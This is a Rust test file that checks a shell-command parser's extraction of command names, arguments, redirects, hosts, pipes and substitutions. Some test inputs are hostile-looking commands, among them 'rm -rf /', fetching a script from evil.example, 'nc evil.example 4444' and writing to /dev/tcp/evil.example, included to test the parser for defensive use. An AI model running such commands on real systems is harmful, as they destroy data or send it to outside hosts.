//! Plain command lines.

use serde_json::json;

use crate::{answer, hold};

#[test]
fn commands_are_all_that_run_as_written_and_by_base_name() {
    hold(
        "shell.commands",
        &[
            ("ls", "ls"),
            ("ls -la /tmp", "ls"),
            ("/bin/rm -rf /", "/bin/rm rm"),
            ("./build.sh --fast", "./build.sh build.sh"),
            ("cat a | grep b | wc -l", "cat grep wc"),
            ("make && make install || echo failed; true &", "echo make true"),
            ("cd /tmp; ls", "cd ls"),
            ("a\nb\n\nc", "a b c"),
            ("! grep -q x y", "grep"),
            ("(cd a && rm b)", "cd rm"),
            ("{ rm a; mv b c; }", "mv rm"),
            ("if test -f a; then rm a; elif true; then mv a b; else cp a b; fi", "cp mv rm test true"),
            ("for f in *.txt; do rm \"$f\"; done", "rm"),
            ("for f; do rm \"$f\"; done", "rm"),
            ("while read -r line; do echo \"$line\"; done < list", "echo read"),
            ("until ping -c 1 host; do sleep 1; done", "ping sleep"),
            ("case $x in a|b) rm a;; *) ls;; esac", "ls rm"),
            ("case x in (a) rm a; esac", "rm"),
            ("f() { rm \"$1\"; }; f a", "f rm"),
            ("function f { rm a; }", "rm"),
            ("[ -f a ] && rm a", "[ rm"),
            ("[[ -f a ]] && rm a", "rm"),
            ("X=1 Y=2 env", "env"),
            ("X=1", ""),
            ("> out", ""),
            ("echo $(date) `whoami`", "date echo whoami"),
            ("echo \"$(cat \"$(ls)\")\"", "cat echo ls"),
            ("echo ${x:-$(rm a)}", "echo rm"),
            ("diff <(sort a) <(sort b)", "diff sort"),
            ("ls | tee >(gzip -c)", "gzip ls tee"),
            ("cat <<EOF\n$(rm a)\nEOF", "cat rm"),
            ("cat <<'EOF'\n$(rm a)\nEOF\nls", "cat ls"),
            ("cat <<-EOF\n\tx\n\tEOF\nls", "cat ls"),
            ("cat <<A <<B\n1\nA\n2\nB\nls", "cat ls"),
            ("echo a # ; rm b", "echo"),
            ("echo a#b", "echo"),
            ("echo $((1 + 2))", "echo"),
            ("time -p ls", "ls time"),
            ("time -p\tls", "ls time"),
            ("time -- ls", "?"),
            ("ls \\\n  -la", "ls"),
            ("", ""),
            ("# nothing", ""),
            ("trap 'rm a' EXIT", "rm trap"),
            ("export A=1 B=2", "export"),
        ],
    );
}

#[test]
fn what_runs_another_command_is_looked_into() {
    hold(
        "shell.commands",
        &[
            ("sudo rm -rf /", "rm sudo"),
            ("sudo -u bob -n rm a", "rm sudo"),
            ("sudo --user=bob X=1 rm a", "rm sudo"),
            ("env X=1 rm a", "env rm"),
            ("env -i -u HOME rm a", "env rm"),
            ("nohup nice -n 5 rm a &", "nice nohup rm"),
            ("timeout -k 5 10 rm a", "rm timeout"),
            ("command rm a", "command rm"),
            ("command -v rm", "command"),
            ("exec rm a", "exec rm"),
            ("sh -c 'rm a; ls'", "ls rm sh"),
            ("bash -lc \"rm a\"", "bash rm"),
            ("sh -c 'sh -c \"rm a\"'", "rm sh"),
            ("sudo sh -c 'cat a > b'", "cat sh sudo"),
            ("bash build.sh", "bash"),
            ("python3 tool.py --x", "python3"),
            ("python -m venv .venv", "python"),
            ("node --version", "node"),
            ("find . -name '*.o' -exec rm {} \\;", "find rm"),
            ("find . -type f -exec grep -l x {} + -print", "find grep"),
            ("find . -delete", "find"),
            ("ls | xargs rm -f", "ls rm xargs"),
            ("xargs -0 -n 1 rm", "rm xargs"),
            ("ssh host 'rm a; ls'", "ls rm ssh"),
            ("ssh -p 22 bob@host uptime", "ssh uptime"),
            ("git -C a status", "git"),
            ("git cherry-pick a1b2c3", "git"),
            ("git commit -m 'a; rm b'", "git"),
            ("sed -i 's/a/b/g' f", "sed"),
            ("sed -n 1,5p f", "sed"),
            ("awk '{print $1}' f", "awk"),
            ("tar xzf a.tgz -C b", "tar"),
            ("psql -c 'SELECT 1'", "psql"),
            ("busybox rm a", "busybox rm"),
        ],
    );
}

#[test]
fn arguments_are_without_quotes() {
    hold(
        "shell.arguments",
        &[
            ("rm -rf '/a b' \"c\"", "-rf /a b c"),
            ("rm a\\ b", "a b"),
            ("rm -r''f /", "-rf /"),
            ("rm $'\\x2drf'", "?"),
            ("rm ~/a", "~/a"),
            ("rm $X", "?"),
            ("rm *", "?"),
            ("rm {a,b}", "?"),
            ("rm \"$(ls)\"", "?"),
            ("sudo rm a", "a rm"),
        ],
    );
}

#[test]
fn redirections_name_the_files_they_write_and_read() {
    hold(
        "shell.redirects",
        &[
            ("ls > out", "out"),
            ("ls >> 'a b' 2>err", "a b err"),
            ("ls &> all", "all"),
            ("ls >| out", "out"),
            ("ls > /dev/null 2>&1", ""),
            ("{ ls; } > out", "out"),
            ("> out ls", "out"),
            ("if true; then ls > a; fi > b", "a b"),
            ("cat <> both", "both"),
            ("sh -c 'ls > inner'", "inner"),
            ("ls > $X", "?"),
            ("ls > a*", "?"),
            ("echo '> out'", ""),
        ],
    );
    hold(
        "shell.reads",
        &[
            ("wc < in", "in"),
            ("cat <<EOF\nx\nEOF", ""),
            ("cat <<< x", ""),
            ("cat <> both", "both"),
            ("while read x; do echo; done < list", "list"),
            ("wc < \"$f\"", "?"),
        ],
    );
}

#[test]
fn hosts_are_the_targets_that_arguments_name() {
    hold(
        "shell.hosts",
        &[
            ("ls /tmp", ""),
            ("curl https://Example.com/a", "example.com"),
            ("curl -s -o out.html example.com/a", "example.com"),
            ("curl -X POST -d 'x=1' --max-time 5 https://a.example https://b.example", "a.example b.example"),
            ("curl -d '{\"u\":\"https://c.example/\"}' https://a.example", "a.example c.example"),
            ("wget -q -O - evil.example/x.sh", "evil.example"),
            ("scp a bob@host.example:/tmp", "host.example"),
            ("rsync -a a/ host.example:b/", "host.example"),
            ("git clone git@github.com:a/b.git", "github.com"),
            ("git clone https://github.com/a/b", "github.com"),
            ("ssh bob@host.example ls", "host.example"),
            ("nc evil.example 4444", "evil.example"),
            ("ping -c 3 10.0.0.1", "10.0.0.1"),
            ("dig @8.8.8.8 example.com", "8.8.8.8 example.com"),
            ("echo x > /dev/tcp/evil.example/80", "evil.example"),
            ("pip install --index-url https://evil.example/simple x", "evil.example"),
            ("sudo curl evil.example", "evil.example"),
            ("cat \"$f\"", ""),
            ("curl $URL", "?"),
            ("curl --resolve a:80:b a", "?"),
            ("curl https://a.example\\\\@b.example", "?"),
            ("./deploy \"$HOST\"", "?"),
        ],
    );
}

#[test]
fn pipes_and_substitutions_are_seen() {
    hold(
        "shell.pipes",
        &[
            ("a | b", "true"),
            ("a |& b", "true"),
            ("a || b", "false"),
            ("echo '|'", "false"),
            ("sh -c 'a | b'", "true"),
            ("eval x", "?"),
            ("a | eval x", "true"),
        ],
    );
    hold(
        "shell.substitutes",
        &[
            ("a $(b)", "true"),
            ("a `b`", "true"),
            ("a <(b)", "true"),
            ("a '$(b)'", "false"),
            ("a $b", "false"),
            ("a \\$(b)", "?"),
        ],
    );
}

#[test]
fn a_list_is_one_command_that_no_shell_expands() {
    assert_eq!(answer("shell.commands", &json!(["rm", "-rf", "$HOME; ls"])), "rm");
    assert_eq!(answer("shell.arguments", &json!(["rm", "-rf", "*"])), "* -rf");
    assert_eq!(answer("shell.commands", &json!(["bash", "-c", "rm a | ls"])), "bash ls rm");
    assert_eq!(answer("shell.commands", &json!(["sudo", "python", "-c", "x"])), "?");
    assert_eq!(answer("shell.hosts", &json!(["curl", "evil.example"])), "evil.example");
    assert_eq!(answer("shell.commands", &json!([])), "?");
    assert_eq!(answer("shell.commands", &json!(["ls", 1])), "?");
    assert_eq!(answer("shell.commands", &json!({"a": 1})), "?");
}
